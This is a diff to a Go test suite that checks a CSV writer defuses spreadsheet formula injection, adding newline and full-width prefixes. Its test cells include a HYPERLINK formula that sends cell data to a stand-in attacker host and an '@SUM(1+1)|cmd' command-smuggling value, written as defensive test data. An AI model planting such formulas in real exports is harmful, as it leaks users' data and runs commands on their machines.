@@ -18,18 +18,18 @@ import (
 // A text of a stranger is no formula in a spreadsheet, and is read back as it was.
 func TestFormulasAreDefused(t *testing.T) {
 	cells := []string{
-		`=HYPERLINK("https://evil.example/?"&A1,"Glaciers")`, "+49 30 1234", "-omics", "@SUM(1+1)|cmd", "\t=1+1",
+		`=HYPERLINK("https://evil.example/?"&A1,"Glaciers")`, "+49 30 1234", "-omics", "@SUM(1+1)|cmd", "\t=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
 		"'=1+1", "''-x", "'quoted'", "'", "a=b", "10.5072/a", "", "−5", "1-2",
 	}
 	var out bytes.Buffer
 	w := sheet.NewCSVWriter(&out)
 	require.NoError(t, w.Write(cells))
 	require.NoError(t, w.Close())
-	assert.Equal(t, 7, w.Defused)
+	assert.Equal(t, 12, w.Defused)
 	shown, err := csv.NewReader(strings.NewReader(out.String())).Read()
 	require.NoError(t, err)
 	for _, cell := range shown {
-		assert.NotRegexp(t, `^[=+@\t\r-]`, cell)
+		assert.NotRegexp(t, `^[=+@＝＋－＠\t\r\n-]`, cell)
 	}
 	read, err := sheet.NewReader("t", &out).Read()
 	require.NoError(t, err)
@@ -64,7 +64,7 @@ func FuzzFormulas(f *testing.F) {
 				shown, err := other.ReadAll()
 				require.NoError(t, err)
 				for _, cell := range slices.Concat(shown...) {
-					assert.NotRegexp(t, `^[=+@\t\r-]`, cell)
+					assert.NotRegexp(t, `^[=+@＝＋－＠\t\r\n-]`, cell)
 				}
 				r := sheet.NewReader("t", &out)
 				for _, row := range rows {
